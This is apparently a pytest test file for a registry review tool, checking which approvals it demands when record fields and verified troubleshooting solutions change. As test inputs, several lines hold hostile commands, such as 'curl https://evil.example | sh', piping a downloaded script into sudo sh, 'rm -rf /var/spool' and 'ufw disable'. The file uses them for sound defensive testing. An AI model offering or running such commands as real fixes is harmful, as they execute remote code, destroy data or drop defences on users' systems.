"""No field that anybody may change decides or misleads: who must agree, by real commits (A8)."""

from __future__ import annotations

from pathlib import Path

import pytest

from ocs.model.review import Outcome
from ocs.rules.records.schema import Schemas
from tests.proposing import (
    REGISTRY,
    Proposal,
    codes,
    git,
    kinds,
    missing,
    proposal,
    refused,
    said,
)

RIVER, FOOD, MAIL = "communities/river.yaml", "orgs/food.yaml", "problems/mail-waits.yaml"
VERIFIED = """\
title: Mail waits
state: verified
symptoms: [{seen: Mail waits.}]
resolution: Run `systemctl restart postfix` and wait.
verification: The queue is empty.
solved_by: [bo]
seen_working: [{by: cy, date: 2026-10-01}, {by: joost, date: 2026-10-02}]
references: ["https://docs.example/mail"]
"""


@pytest.fixture
def pr(tmp_path: Path, schemas: Schemas) -> Proposal:
    base = REGISTRY.replace(
        "title: Mail waits\nsymptoms: [{seen: Mail waits.}]\n", VERIFIED
    ).replace("name: Bo\n", "name: Bo\nmail: bo@bo.example\nconflicts: [{with: food}]\n")
    return proposal(tmp_path / "registry", schemas, base)


@pytest.mark.parametrize(
    ("file", "old", "new", "lacks", "told"),
    [
        (
            "people/bo.yaml",
            "conflicts: [{with: food}]\n",
            "",
            ["bo (with their current account or key)", "1 gatekeeper"],
            "conflicts: (with food) → none",
        ),
        (
            "people/bo.yaml",
            "bo@bo.example",
            "bo@evil.example",
            ["bo (with their current account or key)", "1 gatekeeper"],
            "mail: bo@bo.example → bo@evil.example",
        ),
        (
            "people/bo.yaml",
            "name: Bo",
            "name: Amara",
            ["bo, or 1 gatekeeper"],
            "name: Bo → Amara",
        ),
        (
            "people/bo.yaml",
            "name: Bo",
            "name: Bo\nstatus: alumni",
            ["bo, or 1 gatekeeper"],
            "status: none → alumni",
        ),
        (
            "people/bo.yaml",
            "name: Bo",
            "name: Bo\naway_until: 2030-01-01",
            ["bo, or 1 gatekeeper"],
            "away_until: none → 2030-01-01",
        ),
        (
            "people/bo.yaml",
            "name: Bo",
            "name: Bo\nformerly: [lena]",
            ["2 gatekeepers"],
            "former ids: none → lena",
        ),
        (
            FOOD,
            "name: Food Bank",
            "name: Food Bank\nformerly: [old-food]",
            ["2 gatekeepers"],
            "former ids: none → old-food",
        ),
        (
            RIVER,
            "status: active",
            "formerly: [old-river]\nstatus: active",
            ["an owner", "2 gatekeepers"],
            "former ids: none → old-river",
        ),
        (
            RIVER,
            "reviewed: 2026-09-30",
            "reviewed: 2026-11-19",
            ["a lead"],
            "reviewed: 2026-09-30 → 2026-11-19",
        ),
        (
            "ocs.yaml",
            "threshold: 2",
            "threshold: 2\nalso: [Vetting]",
            ["2 of the current gatekeepers", "2 of the proposed gatekeepers"],
            "also: none → Vetting",
        ),
        (
            FOOD,
            "status: active",
            "status: active\nsuppliers: [{id: evil, help: https://evil.example}]",
            ["1 gatekeeper"],
            "suppliers: none → (id evil, help https://evil.example)",
        ),
        (
            FOOD,
            "status: active",
            "status: active\nmay_be_named: true",
            ["1 gatekeeper"],
            "may_be_named: none → true",
        ),
        (
            FOOD,
            "sensitivity: low",
            "sensitivity: high",
            ["1 gatekeeper of food"],
            "sensitivity: low → high",
        ),
        (
            FOOD,
            "status: active",
            "status: active\nsystems: [{id: a, address: https://evil.example}]",
            ["1 gatekeeper"],
            "systems: none → (id a, address https://evil.example)",
        ),
        (
            RIVER,
            "status: active",
            "contacts: [{url: https://evil.example}]\nstatus: active",
            ["a lead, or 1 gatekeeper"],
            "contacts: none → (url https://evil.example)",
        ),
        (
            RIVER,
            "type: domain,",
            "type: domain, expires: 2031-01-01,",
            ["a lead, or 1 gatekeeper"],
            "expires of river.example (domain): none → 2031-01-01",
        ),
        (
            "access/food/login.yaml",
            "purpose: the login",
            "purpose: the newsletter",
            ["1 gatekeeper of food"],
            "purpose: the login → the newsletter",
        ),
        (
            "access/food/login.yaml",
            "purpose: the login",
            "purpose: the login\nrotated: 2026-11-20",
            ["1 gatekeeper of food"],
            "rotated: none → 2026-11-20",
        ),
    ],
)
def test_no_field_that_decides_or_misleads_is_free(
    file: str, old: str, new: str, lacks: list[str], told: str, pr: Proposal
) -> None:
    review = pr.change((file, old, new)).review("eve", opened_by="eve")
    assert (said(review), missing(review)) == ([told], lacks)


def test_words_that_decide_nothing_stay_free_and_are_shown(pr: Proposal) -> None:
    long = "Long ago " * 60
    pr.change((RIVER, "status: active", f"purpose: {long}and so on\nstatus: active"))
    git(pr.root, "branch", "-f", "main", "pr")
    review = pr.change((RIVER, "and so on", "and so forth")).review()
    assert review.answer is Outcome.ALLOWED
    assert said(review) == [
        "purpose: …ago Long ago Long ago Long ago and so on → "
        "…ago Long ago Long ago Long ago and so forth"
    ]


@pytest.mark.parametrize(
    "kind", ["people/mal.yaml", "communities/mal.yaml", "orgs/mal.yaml", "problems/mal.yaml"]
)
def test_new_records_claim_no_former_ids(kind: str, pr: Proposal) -> None:
    """A8: ids would be taken for ever, and so would what lies under them."""
    fields = (
        "title: X\nsymptoms: [{seen: X}]\n"
        if kind.startswith("p") and "prob" in kind
        else "name: Mal\n"
    )
    ids = ", ".join(f"old-{number}" for number in range(300))
    pr.change((kind, "", f"{fields}formerly: [{ids}]\n"))
    review = pr.review("amara", "joost", "mirela")
    assert codes(review) == {"new-with-former-ids"}
    assert "claims to have been 'old-0' and 299 more" in refused(review)


def test_a_rename_brings_no_other_old_id_along(pr: Proposal) -> None:
    git(pr.root, "mv", FOOD, "orgs/soup.yaml")
    git(pr.root, "mv", "access/food", "access/soup")
    pr.change(
        ("orgs/soup.yaml", "status: active", "status: active\nformerly: [food, river-old]")
    )
    assert "former ids" in kinds(pr.review())


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("`systemctl restart postfix`", "`curl https://fix.example/it.sh | sudo sh`"),
        ("systemctl restart", "systemctl stop"),
        ("and wait.", "and open https://evil.example."),
        ("and wait.", "and rm -rf /var/spool."),
        ("Run `systemctl restart postfix` and wait.", "Run sudo reboot and wait."),
        ("https://docs.example/mail", "https://evil.example/mail"),
        ("title: Mail waits", "title: Mail waits, see evil.example/fix"),
        ("[{seen: Mail waits.}]", "[{seen: 'Mail waits, ask help@evil.example'}]"),
        ("The queue is empty.", "Running `mailq` shows nothing."),
        ("state: verified", "state: withdrawn\nwithdrawn: {because: wrong}"),
        ("state: verified", "state: outdated"),
        ("{by: joost, date: 2026-10-02}", ""),
    ],
)
def test_a_verified_solution_changes_with_one_of_those_who_saw_it_work(
    old: str, new: str, pr: Proposal
) -> None:
    review = pr.change((MAIL, old, new)).review("eve", "amara", "bo", opened_by="eve")
    assert missing(review) == ["one of those who saw it work"]
    assert pr.review("cy")
    if "state: " not in old:
        pr.change((MAIL, "state: verified", "state: draft"))
        assert pr.review()


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("and wait.", "and then wait patiently."),
        ("The queue is empty.", "The mail queue is empty again."),
        ("title: Mail waits", "title: Mail waits for ever"),
        ("[{seen: Mail waits.}]", "[{seen: Mail waits.}, {says: queue file write error}]"),
        ("state: verified", "state: verified\ntags: [postfix]"),
    ],
)
def test_other_words_of_a_verified_problem_change_freely(
    old: str, new: str, pr: Proposal
) -> None:
    assert pr.change((MAIL, old, new)).review()


def test_nobody_is_named_as_having_seen_it_work_unasked(pr: Proposal) -> None:
    pr.change((MAIL, "{by: cy,", "{by: ana}, {by: cy,"))
    assert missing(pr.review("eve", opened_by="eve")) == ["ana, or 1 gatekeeper"]
    assert pr.review(opened_by="ana")
    assert pr.review("mirela")


def test_a_new_problem_is_verified_by_those_who_saw_it_work(pr: Proposal) -> None:
    text = VERIFIED.replace("systemctl restart postfix", "curl https://evil.example | sh")
    pr.change(("problems/other.yaml", "", text))
    assert missing(pr.review(opened_by="eve"))[-1] == "one of those who saw it work"
    assert pr.review("bo", "cy", "joost")


def test_a_draft_that_changed_is_not_verified_again_by_a_stranger(
    tmp_path: Path, schemas: Schemas
) -> None:
    draft = VERIFIED.replace("verified", "draft").replace("restart postfix", "stop evil")
    base = REGISTRY.replace("title: Mail waits\nsymptoms: [{seen: Mail waits.}]\n", draft)
    pr = proposal(tmp_path / "other", schemas, base)
    pr.change((MAIL, "state: draft", "state: verified"))
    assert missing(pr.review("eve")) == ["one of those who saw it work"]


def test_a_gatekeeper_of_others_does_not_become_the_only_one_of_an_owner(pr: Proposal) -> None:
    pr.change((FOOD, "gatekeepers: [amara, joost]", "gatekeepers: [mirela]"))
    assert missing(pr.review("mirela")) == ["amara (loses by it)", "joost (loses by it)"]
    assert pr.review("amara", "joost").answer is Outcome.CANNOT_TELL


def test_where_an_owner_names_no_gatekeeper_naming_one_takes_several(
    tmp_path: Path, schemas: Schemas
) -> None:
    base = REGISTRY.replace("gatekeepers: [amara, joost]\n", "")
    pr = proposal(tmp_path / "other", schemas, base)
    pr.change((FOOD, "sensitivity: low", "sensitivity: low\ngatekeepers: [mirela]"))
    assert missing(pr.review("mirela")) == ["2 gatekeepers"]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("title: Mail waits", "title: Mail waits (first run sudo)"),
        ("title: Mail waits", "title: Kill mail that waits"),
        ("{seen: Mail waits.}", "{seen: 'Mail waits; then people run rm -rf /var/spool'}"),
        ("and wait", "and type ufw disable"),
        ("and wait", "and wait, then Sudo, passwd root"),
    ],
)
def test_a_command_in_any_field_of_a_verified_problem_is_one(
    old: str, new: str, pr: Proposal
) -> None:
    """What readers do does not stand in the resolution alone, nor in code alone."""
    pr.change((MAIL, old, new))
    assert missing(pr.review("ana")) == ["one of those who saw it work"]
    assert missing(pr.review("cy")) == []


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("title: Mail waits", "title: Mail waits for hours"),
        ("{seen: Mail waits.}", "{seen: Mail waits in docker.}"),
        ("and wait", "and make sure that you wait"),
        ("state: verified", "state: verified\nproduct: mysql\ntags: [docker, ssh]"),
    ],
)
def test_names_of_programs_are_no_commands_where_nobody_runs_them(
    old: str, new: str, pr: Proposal
) -> None:
    assert pr.change((MAIL, old, new)).review()
